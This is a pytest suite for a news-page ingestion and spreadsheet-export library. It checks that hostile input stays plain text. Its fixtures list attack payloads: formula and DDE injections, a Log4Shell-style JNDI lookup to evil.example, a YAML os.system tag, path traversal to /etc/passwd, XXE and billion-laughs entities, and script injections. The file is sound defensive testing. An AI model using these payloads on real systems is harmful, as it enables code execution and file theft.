"""Hostile pages: nothing executes, nothing of a script is text, no name leads out of the folder."""

import json
import os
import zipfile
from datetime import date

import polars as pl
import pytest

from newsledger import read_pages
from newsledger.articles import parse
from newsledger.extraction import extract_articles
from newsledger.pages.filing import file_page, safe_name
from newsledger.pages.stating import StatementError
from newsledger.publishing import as_text_cells, write_xlsx

LEAD = "Ships with wheat left the port of Mombasa on Tuesday, the authority said, after a strike of a week had ended."
HOSTILE = [
    "=HYPERLINK('https://evil.example','open')",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "</script><script>document.title='owned'</script>",
    '{"expr": "warn(datum)", "signal": "1+1"}',
    "!!python/object/apply:os.system ['true']",
    "../../etc/passwd",
    "{{ 7 * 7 }}{% include 'x' %}",
    "${jndi:ldap://evil.example/x}",
]


def html(title, body):
    return (
        f"<!doctype html><html><head><title>{title}</title><script>document.write('Scripted words')</script>"
        '<link rel="canonical" href="javascript:alert(1)"><meta name="author" content="=1+1">'
        '<meta property="og:url" content="data:text/html,x"><style>p::after {content: "Styled words"}</style></head>'
        f"<body onload=\"alert('Loaded words')\"><article><h1>{title}</h1>"
        f"<p onclick=\"alert('Clicked words')\">{LEAD}</p>"
        f"<p>{body}</p><p><a href=\"javascript:alert('Linked words')\">{LEAD.replace('wheat', 'maize')}</a></p>"
        '<svg><script>alert("Drawn words")</script></svg><iframe srcdoc="<p>Framed words</p>"></iframe>'
        f"<noscript><p>Silent words</p></noscript></article></body></html>"
    )


def tables(folder):
    parsed = parse(read_pages([folder]))
    return parsed, extract_articles(parsed.rows)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_page_says_stays_text(tmp_path, text):
    escaped = text.replace("<", "&lt;")
    (tmp_path / "a.html").write_text(html(escaped, f"{escaped} The minister of Kenya visited Peru on 3 March 2024."))
    (tmp_path / "b.txt").write_text(
        f"Ships leave\n\n12 March 2024\n\n{text}\n\n{LEAD.replace('Mombasa', 'Lima')} “{text},” he said.\n"
    )
    parsed, found = tables(tmp_path)
    assert len(parsed.rows) == 2
    for row in parsed.rows.to_dicts():
        assert row["url"] is None
        assert not any(f"{word} words" in row["body"] for word in ("Scripted", "Styled", "Loaded", "Clicked", "Linked"))
        assert not any(f"{word} words" in row["body"] for word in ("Drawn", "Framed"))
    frames = {"articles": parsed.rows, "events": found.events, "claims": found.trade_claims, "rejects": parsed.rejects}
    for frame in frames.values():
        cells = as_text_cells(frame).select(pl.col(pl.String))
        for row in cells.rows():
            assert not any(cell and cell.lstrip(" ")[:1] in tuple("=+-@\t\r\n") for cell in row)
    write_xlsx(tmp_path / "book.xlsx", frames)
    with zipfile.ZipFile(tmp_path / "book.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/sheet" in name]
        assert sheets and not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)


def test_entities_are_not_opened(tmp_path):
    laughs = '<!ENTITY a "ha ha ">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    secret = tmp_path / "secret"
    secret.write_text("Hidden words of another file")
    page = html("Ships leave port", f"&k; &x; {LEAD.replace('wheat', 'rice')}")
    for number, opening in enumerate(["<!doctype html", '<?xml version="1.0"?><!DOCTYPE html']):
        entities = f'[<!ENTITY x SYSTEM "{secret.as_uri()}">{laughs}]>'
        (tmp_path / f"{number}.html").write_text(page.replace("<!doctype html>", f"{opening} {entities}"))
    secret.rename(tmp_path / ".secret")
    parsed = parse(read_pages([tmp_path]))
    assert len(parsed.rows) == 2
    assert all("Hidden" not in body and len(body) < 1000 for body in parsed.rows["body"])


def test_characters_that_control_or_turn_stay_inside_their_cell(tmp_path):
    odd = "\x1b[31m\x07\x00\x08\u202e\u2066\u200f\ufeff\ud800"
    record = {
        "title": f"Ships{odd} leave",
        "text": f"{LEAD}{odd}\n{LEAD.replace('wheat', 'rice')}",
        "date": "2024-03-12",
    }
    (tmp_path / "a.jsonl").write_text(json.dumps(record) + "\n")
    (tmp_path / "b.txt").write_bytes(f"Ships leave\n\n{LEAD} {odd}\n".encode("utf-8", "replace").replace(b"\0", b""))
    parsed, found = tables(tmp_path)
    assert len(parsed.rows) == 2
    frames = {"articles": parsed.rows, "times": found.time_expressions}
    write_xlsx(tmp_path / "book.xlsx", frames)
    with zipfile.ZipFile(tmp_path / "book.xlsx") as book:
        whole = b"".join(book.read(name) for name in book.namelist()).decode()
    assert not any(ch in whole for ch in "\x00\x07\x08\x1b")
    as_text_cells(parsed.rows).write_csv(tmp_path / "a.csv")
    assert pl.read_csv(tmp_path / "a.csv")["page"].to_list() == parsed.rows["page"].to_list()


@pytest.mark.parametrize(
    ("name", "filed"),
    [
        ("..\\..\\evil.txt", "_.._evil.txt"),
        ("...", "page"),
        (".hidden.txt", "hidden.txt"),
        ("-rf.txt", "rf.txt"),
        ("con.txt", "_con.txt"),
        ("NUL", "_NUL"),
        ("console.txt", "console.txt"),
        ("a\nb\x00c.txt", "a_b_c.txt"),
        ("a\u202etxt.html", "a_txt.html"),
        ("a|b?c*.txt", "a_b_c_.txt"),
        ("файл 🚢.txt", "файл 🚢.txt"),
        ("é" * 300 + ".txt", "é" * 88 + ".txt"),
        ("a\udcff.txt", "a\ufffd.txt"),
    ],
)
def test_names_stay_in_the_folder(name, filed):
    assert safe_name(name) == filed
    assert len(filed.encode()) <= 180 and "/" not in filed


def test_what_is_stated_about_a_page_is_written_as_text(tmp_path):
    (tmp_path / "data" / "raw").mkdir(parents=True)
    page = tmp_path / "!!python x: {a}.txt"
    page.write_text(f"Ships leave\n\n{LEAD}\n")
    source = "!!python/object/apply:os.system ['true'] # &a *a\n- x: {y"
    filed = file_page(page, tmp_path, source=source, url="https://port.example/a?x={}#!", captured=date(2024, 3, 20))
    assert filed == "data/raw/!!python x_ {a}.txt"
    row = read_pages([tmp_path / "data" / "raw"]).row(0, named=True)
    assert (row["source"], row["url"]) == (source, "https://port.example/a?x={}#!")
    with pytest.raises(ValueError, match="no web address"):
        page.rename(page.with_name("other.txt"))
        file_page(page.with_name("other.txt"), tmp_path, url="javascript:alert(1)")
    assert len(list((tmp_path / "data" / "raw").iterdir())) == 2


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_what_is_no_file_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "a.txt")
    (tmp_path / "b.txt").symlink_to("b.txt")
    (tmp_path / "c.txt").symlink_to("/dev/zero")
    rejects = parse(read_pages([tmp_path])).rejects
    assert dict(rejects.select("page", "reason").rows()) == {
        "a.txt": "unreadable",
        "b.txt": "link",
        "c.txt": "link",
    }


@pytest.mark.parametrize("data", [b"title,text,date\n", b"title,text,date\n,,\n\n", b"title;text\r\n \r\n"])
def test_a_table_without_records_is_a_reject(tmp_path, data):
    (tmp_path / "a.csv").write_bytes(data)
    assert set(parse(read_pages([tmp_path])).rejects["reason"]) == {"no_article"}


@pytest.mark.parametrize("day", ["2024-13-41", "0000-00-00", "2024-01-01T99:00:00Z", "9999-12-31T23:00:00-14:00"])
def test_a_day_that_no_calendar_has_is_a_fault_of_the_file(tmp_path, day):
    (tmp_path / "a.txt").write_text(LEAD)
    (tmp_path / "pages.yml").write_text(f"a.txt: {{captured: {day}}}\n")
    try:
        read_pages([tmp_path])
    except StatementError as error:
        assert str(error).startswith("pages.yml")
    else:
        assert day.startswith("9999")
